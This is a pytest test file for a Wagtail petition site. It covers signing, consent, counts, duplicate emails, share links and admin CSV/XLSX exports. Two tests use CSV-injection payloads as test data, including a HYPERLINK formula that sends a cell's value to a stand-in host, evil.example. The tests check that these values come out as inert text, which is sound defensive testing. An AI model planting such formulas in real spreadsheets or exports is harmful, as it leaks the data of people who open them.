"""A person signs: the signature is stored, counted, listed and exported in the admin."""

import csv
import io
import re
from urllib.parse import quote

import openpyxl
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from tests.actions.conftest import signed


def test_form_shows_fields_consent_privacy_and_progress(client, petition_page):
    response = client.get("/petition/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="first_name"' in html and 'name="email"' in html
    assert "I agree that OPEIU may contact me about this campaign." in html
    assert "Your privacy:" in html
    assert "<strong>0</strong> signatures" in html and "of a goal of 100" in html
    assert 'class="action-form__hp" aria-hidden="true"' in html
    assert 'name="form_started"' in html


def test_signing_stores_the_signature_and_raises_the_count(client, petition_page):
    response = client.post("/petition/", signed(message="Fair pay now"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "You signed the petition" in html
    assert "<strong>1</strong> signature " in html
    submission = FormSubmission.objects.get(page=petition_page)
    assert submission.form_data["first_name"] == "Rosa"
    assert submission.form_data["consent"] is True
    assert "hp_website" not in submission.form_data
    assert "form_started" not in submission.form_data
    assert "<strong>1</strong> signature " in client.get("/petition/").content.decode()


def test_consent_is_required(client, petition_page):
    data = signed()
    del data["consent"]
    response = client.post("/petition/", data)
    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_count_formats_large_numbers_and_caps_progress_at_goal(client, petition_page):
    FormSubmission.objects.bulk_create(
        FormSubmission(page=petition_page, form_data={"first_name": f"P{i}"}) for i in range(1234)
    )
    html = client.get("/petition/").content.decode()
    assert "<strong>1,234</strong> signatures" in html
    assert '<progress max="100" value="100"' in html


def _admin_submissions(client, page, **params):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    return client.get(url, params)


def test_signature_shows_in_the_admin_list_and_both_exports(client, admin_client, petition_page):
    client.post("/petition/", signed(first_name="Rosa", email="rosa@example.org"))

    listing = _admin_submissions(admin_client, petition_page)
    assert listing.status_code == 200
    html = listing.content.decode()
    assert "Rosa" in html and "rosa@example.org" in html

    csv_response = _admin_submissions(admin_client, petition_page, export="csv")
    assert csv_response.status_code == 200
    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Submission date", "First name", "Email"]
    assert rows[0][-1] == "Consent given"
    assert rows[1][1:3] == ["Rosa", "rosa@example.org"]
    assert len(rows) == 2

    xlsx_response = _admin_submissions(admin_client, petition_page, export="xlsx")
    assert xlsx_response.status_code == 200
    assert xlsx_response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Submission date", "First name", "Email"]
    assert values[1][1:3] == ["Rosa", "rosa@example.org"]
    assert values[1][-1] is True
    assert len(values) == 2


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'


def test_a_formula_a_member_types_is_inert_in_the_csv_and_text_in_the_xlsx(
    client, admin_client, petition_page
):
    """OWASP CSV injection: a cell that starts with = + - @, a tab or a carriage return is
    prefixed with a single quote, so a spreadsheet shows it as text."""
    names = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "Rosa")
    for number, name in enumerate(names):  # five people, each within the rate limit
        response = client.post(
            "/petition/", signed(first_name=name), REMOTE_ADDR=f"192.0.2.{number + 1}"
        )
        assert response.status_code == 200
    # The form strips leading whitespace; stored data from elsewhere (an import) may not.
    for name in ("\tcmd", "\rcmd"):
        FormSubmission.objects.create(page=petition_page, form_data={"first_name": name})
    csv_response = _admin_submissions(admin_client, petition_page, export="csv")
    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted(
        ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rcmd", "Rosa"]
    )
    first_cells = [cell[:1] for row in rows for cell in row]
    assert not set(first_cells) & {"=", "+", "-", "@", "\t", "\r"}

    xlsx_response = _admin_submissions(admin_client, petition_page, export="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert FORMULA in [cell.value for cell in cells]  # stored as it was typed...
    assert {cell.data_type for cell in cells} == {"s"}  # ...as text, never a formula


def test_a_form_label_that_looks_like_a_formula_is_a_text_heading(
    client, admin_client, petition_page
):
    """An editor's field label is the export's heading: "=1+1" (or + - @ ...) stays the text
    the editor typed in the XLSX, and is quoted in the CSV."""
    from tests.actions.factories import add_fields

    labels = ('=HYPERLINK("http://evil.example","x")', "+1+1", "@SUM(A1)")
    add_fields(petition_page, *((label, "singleline", False) for label in labels))
    response = client.post("/petition/", signed(), REMOTE_ADDR="192.0.2.50")
    assert response.status_code == 200

    xlsx_response = _admin_submissions(admin_client, petition_page, export="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
    headings = next(sheet.iter_rows(min_row=1, max_row=1))
    by_value = {cell.value: cell for cell in headings}
    for label in labels:
        assert by_value[label].data_type == "s", label
    assert {cell.data_type for cell in headings} == {"s"}

    csv_response = _admin_submissions(admin_client, petition_page, export="csv")
    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    heading_row = next(csv.reader(io.StringIO(text)))
    assert {"'" + label for label in labels} <= set(heading_row)
    assert not {cell[:1] for cell in heading_row} & {"=", "+", "-", "@", "\t", "\r"}


def test_the_same_email_signs_a_petition_once_whatever_its_case(client, petition_page):
    assert client.post("/petition/", signed(email="rosa@example.org")).status_code == 200
    again = client.post("/petition/", signed(email="  ROSA@Example.org "))
    # The same thank-you page (whether an address signed is nobody's business), one signature.
    assert "You signed the petition" in again.content.decode()
    assert "<strong>1</strong> signature " in again.content.decode()
    assert FormSubmission.objects.filter(page=petition_page).count() == 1
    client.post("/petition/", signed(email="ana@example.org"))
    assert petition_page.signature_count() == 2


def test_another_petition_counts_the_same_email_again(client, home, petition_page):
    from tests.actions.factories import petition

    other = petition(home, slug="other-petition")
    client.post("/petition/", signed())
    client.post("/other-petition/", signed())
    assert FormSubmission.objects.filter(page=other).count() == 1


def test_name_and_email_fields_tell_the_browser_what_they_hold(client, petition_page):
    html = client.get("/petition/").content.decode()
    assert re.search(r'<input(?=[^>]*name="first_name")(?=[^>]*autocomplete="given-name")', html)
    assert re.search(r'<input(?=[^>]*name="email")(?=[^>]*autocomplete="email")', html)
    assert not re.search(r'<textarea(?=[^>]*name="message")(?=[^>]*autocomplete)', html)


def test_the_thank_you_page_offers_share_links_and_thanks_once(client, petition_page):
    html = client.post("/petition/", signed()).content.decode()
    assert html.count("Share the petition") == 1
    share = html.split("Share the petition", 1)[1]
    url = "http://testserver/petition/"
    assert f"https://www.facebook.com/sharer/sharer.php?u={quote(url, safe='')}" in share
    assert "https://wa.me/?text=" in share and "mailto:?subject=" in share
    assert f'<code id="share-url">{url}</code>' in share
    heading = re.search(r"<h1>(.*?)</h1>", html).group(1)
    assert "Thank you" not in heading
